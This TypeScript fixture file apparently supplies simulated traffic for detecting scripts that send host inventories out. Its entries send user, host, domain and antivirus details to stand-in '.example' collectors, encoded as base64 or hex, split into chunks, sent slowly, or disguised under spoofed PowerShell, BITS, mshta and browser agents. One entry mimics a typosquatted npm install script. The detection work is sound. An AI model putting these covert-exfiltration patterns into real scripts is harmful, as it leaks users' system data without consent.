/**
 * What scripts send: inventories to collectors, and what software says about its host to its own maker.
 * Each call is one request of a program; `program` is what really sends it, and the agent is its own where
 * none is given. What is not installed here (PowerShell, BITS, updaters) is sent by curl under its agent.
 */
import type { Destination } from "./shape.ts";

export interface Call extends Destination {
  program: "curl" | "wget" | "python";
  agent?: string;
  method?: string;
  /** Full addresses; one request each. */
  urls: readonly string[];
  body?: string;
  /** Time between the requests, in minutes; without it they keep the distance they were sent at. */
  everyMin?: number;
}

const b64 = (text: string, encoding: BufferEncoding = "utf8") =>
  Buffer.from(text, encoding).toString("base64");
const b64u = (text: string) => Buffer.from(text).toString("base64url");
const hex = (text: string) => Buffer.from(text).toString("hex");
const query = (values: Record<string, string | number>) =>
  new URLSearchParams(Object.entries(values).map(([key, value]) => [key, String(value)])).toString();

export const powershell = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.19041.5247";
const winHttp = "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)";
const explorer =
  "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; .NET4.0E; .NET CLR 2.0.50727)";
const inventory = {
  host: "WS-0417",
  user: "m.harker",
  domain: "CORP",
  os: "Microsoft Windows 11 Pro 10.0.26100",
  arch: "x64",
  av: "Windows Defender;ESET Endpoint",
  tz: "GMT Standard Time",
  lang: "en-GB",
  vpn: "AnyConnect 5.1",
  browser: "Edge 157; Chrome 157",
};

export const scriptCollectors: readonly Call[] = [
  {
    host: "up.drayhorse.example",
    label: "collector",
    behaviour: "curl sends host, user, kernel, system, zone and language as plain parameters",
    program: "curl",
    urls: [
      `http://up.drayhorse.example/i?${query({ h: "build-7", u: "svc", k: "6.1.0-28-amd64", o: "Debian GNU/Linux 12", tz: "Europe/London", l: "en_GB.UTF-8", c: 8, m: 16384 })}`,
    ],
  },
  {
    host: "dl.millrace.example",
    label: "collector",
    behaviour: "Python requests: inventory as base64url of JSON in the path, every six hours",
    everyMin: 360,
    program: "python",
    urls: [1, 2, 3, 4, 5].map(
      (run) => `https://dl.millrace.example/s/${b64u(JSON.stringify({ ...inventory, run }))}`,
    ),
  },
  {
    host: "cdn.oxbowfiles.example",
    label: "collector",
    behaviour: "PowerShell's agent; inventory as base64 of UTF-16 in one parameter",
    program: "curl",
    agent: powershell,
    urls: [
      `http://cdn.oxbowfiles.example/u?c=${encodeURIComponent(b64(Object.values(inventory).join("`n"), "utf16le"))}`,
    ],
  },
  {
    host: "doc.larchview.example",
    label: "collector",
    behaviour: "an Office macro by WinHTTP: antivirus, Office version, system, domain",
    program: "curl",
    agent: winHttp,
    urls: [
      `https://doc.larchview.example/k.php?${query({ id: 17, av: inventory.av, of: "16.0.18129", os: "10.0.26100", ar: "64", dm: "CORP", un: "m.harker", lc: 2057 })}`,
    ],
  },
  {
    host: "get.stonewey.example",
    label: "collector",
    behaviour: "BITS asks with HEAD; the path is hex of the inventory",
    program: "curl",
    agent: "Microsoft BITS/7.8",
    method: "HEAD",
    urls: [
      `http://get.stonewey.example/upd/${hex(`${inventory.host}|${inventory.os}|${inventory.av}|${inventory.lang}`)}.cab`,
    ],
  },
  {
    host: "ad.hawkmere.example",
    label: "collector",
    behaviour:
      "mshta (agent of Internet Explorer 7): system, antivirus, screen and installed browsers in short names",
    program: "curl",
    agent: explorer,
    urls: [
      `http://ad.hawkmere.example/p/?${query({ o: "W11-26100", a: "WD,ESET", s: "1920x1080", b: "E157,C157", z: 0, g: "en-GB", n: "WS-0417" })}`,
    ],
  },
  {
    host: "npm-metrics.tallgrass.example",
    label: "collector",
    behaviour:
      "an installation script of a typosquatted package: host, user, folder, resolvers, version of Node",
    program: "curl",
    agent: "axios/1.7.9",
    urls: [
      `https://npm-metrics.tallgrass.example/t?${query({ p: "lodahs", v: "4.17.99", h: "build-7", u: "svc", d: "/srv/ci/job-112", dns: "10.20.0.53", n: "v20.18.1", os: "linux x64", hd: "/home/svc" })}`,
    ],
  },
  {
    host: "t.pebblecombe.example",
    label: "collector",
    behaviour: "wget, one value an hour over a day, each hex: slow and split",
    everyMin: 60,
    program: "wget",
    urls: Object.entries(inventory).map(
      ([key, value], at) => `http://t.pebblecombe.example/n/${at}/${hex(`${key}=${value}`)}`,
    ),
  },
  {
    host: "sync.mossgate.example",
    label: "collector",
    behaviour: "Go client: model, serial, system, zone and locale to a rare host, twice a day",
    everyMin: 720,
    program: "curl",
    agent: "Go-http-client/1.1",
    urls: [1, 2, 3, 4, 5].map(
      (n) =>
        `https://sync.mossgate.example/v1/d?${query({ n, "hw.model": "Mac15,7", "os.version": "26.1", serial: "C02XG0FDJGH5", locale: "en_GB", tz: "Europe/London", fw: "on", edr: "falcon" })}`,
    ),
  },
  {
    host: "cdn-assets.heronmoor.example",
    label: "collector",
    behaviour: "a script under a browser's agent: base64 inventory in the query, without referrer or assets",
    everyMin: 240,
    program: "curl",
    agent:
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/157.0.0.0 Safari/537.36",
    urls: [1, 2, 3, 4].map(
      (n) =>
        `https://cdn-assets.heronmoor.example/img/logo.png?v=${encodeURIComponent(b64(JSON.stringify({ n, ...inventory })))}`,
    ),
  },
  {
    host: "static.wharfline.example",
    label: "collector",
    behaviour: "four parts of a base64 inventory, in four requests",
    everyMin: 2,
    program: "curl",
    agent: "python-urllib/3.12",
    urls: (b64u(JSON.stringify(inventory)).match(/.{1,90}/g) ?? []).map(
      (part, at) => `http://static.wharfline.example/c/${at}.js?p=${part}`,
    ),
  },
];

export const scriptUndecided: readonly Call[] = [
  {
    host: "agent.helmsman-msp.example",
    label: "judgement",
    why: "a managed service provider's agent does exactly this; the contract decides",
    behaviour: "an unknown remote management agent reports host, system and antivirus every four hours",
    everyMin: 240,
    program: "curl",
    agent: "HelmsmanAgent/4.2 (Windows NT 10.0)",
    urls: [1, 2, 3, 4].map(
      (n) =>
        `https://agent.helmsman-msp.example/api/checkin?${query({ n, host: "WS-0311", os: "10.0.26100", av: "Defender", uptime: 8123 })}`,
    ),
  },
  {
    host: "tmpl.harrowgate.example",
    label: "judgement",
    why: "the agent alone tells Word's version; whether the template is wanted is not in the log",
    behaviour: "Word loads a remote template with a number",
    program: "curl",
    agent: "Mozilla/4.0 (compatible; ms-office; MSOffice 16)",
    urls: ["http://tmpl.harrowgate.example/t/8f21c7/invoice.dotm"],
  },
  {
    host: "telemetry.cadsuite.example",
    label: "judgement",
    why: "an engineering program's usage report to its maker, whom no catalogue knows",
    behaviour: "a desktop program reports version, system, graphics card, memory and screen once a day",
    everyMin: 1440,
    program: "curl",
    agent: "CadSuite/2026.1",
    urls: [1, 2, 3].map(
      (n) =>
        `https://telemetry.cadsuite.example/usage?${query({ n, ver: "2026.1.3", os: "Windows 11 26100", gpu: "NVIDIA RTX A2000", ram: 32768, res: "2560x1440", loc: "en-GB" })}`,
    ),
  },
];
